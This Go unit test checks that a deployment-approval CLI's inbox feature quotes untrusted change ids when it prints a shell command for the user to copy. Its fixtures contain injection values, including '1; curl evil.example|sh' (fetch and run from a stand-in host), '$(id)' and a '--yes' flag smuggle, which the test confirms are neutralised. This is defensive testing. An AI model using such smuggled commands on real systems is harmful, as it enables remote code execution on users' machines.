package main

import (
	"testing"

	countersignv1 "github.com/countersign-dev/countersign/proto/gen/countersign/v1"
)

// What is printed is copied into a shell, and ids are somebody else's words.
func TestInboxWritesWordsForAShell(t *testing.T) {
	for _, c := range []struct {
		item *countersignv1.InboxItem
		want string
	}{
		{&countersignv1.InboxItem{Kind: "change", Change: "1", Repository: "example.com/r"}, "countersign approve 1 --repository example.com/r --environment staging --key=YOUR-KEY.pem"},
		{&countersignv1.InboxItem{Kind: "change", Change: "1; curl evil.example|sh", Repository: "example.com/r"}, "countersign approve '1; curl evil.example|sh' --repository example.com/r --environment staging --key=YOUR-KEY.pem"},
		{&countersignv1.InboxItem{Kind: "change", Change: "--yes", Repository: "example.com/r"}, "countersign approve --repository example.com/r --environment staging --key=YOUR-KEY.pem -- --yes"},
		{&countersignv1.InboxItem{Kind: "release", Changes: []string{"1", "$(id)"}, Repository: "example.com/r"}, "countersign approve 1 '$(id)' --repository example.com/r --environment staging --key=YOUR-KEY.pem"},
		{&countersignv1.InboxItem{Kind: "plan", PlanSha256: "00ff", Repository: "example.com/r", Assurance: "presence"}, "countersign approve --plan sha256:00ff --repository example.com/r --environment staging --ssh=YOUR-SECURITY-KEY.pub"},
	} {
		if got := (row{c.item, []string{"staging"}}).command(nil, ""); got != c.want {
			t.Errorf("%s", got)
		}
	}
	waits := row{&countersignv1.InboxItem{Kind: "change", Change: "1", Repository: "example.com/r", Assurance: "verified"}, []string{"staging"}}
	if got := waits.command(nil, "https://approve.example.com/console/"); got != "open https://approve.example.com/console/change?id=1&repository=example.com%2Fr" {
		t.Error(got)
	}
}
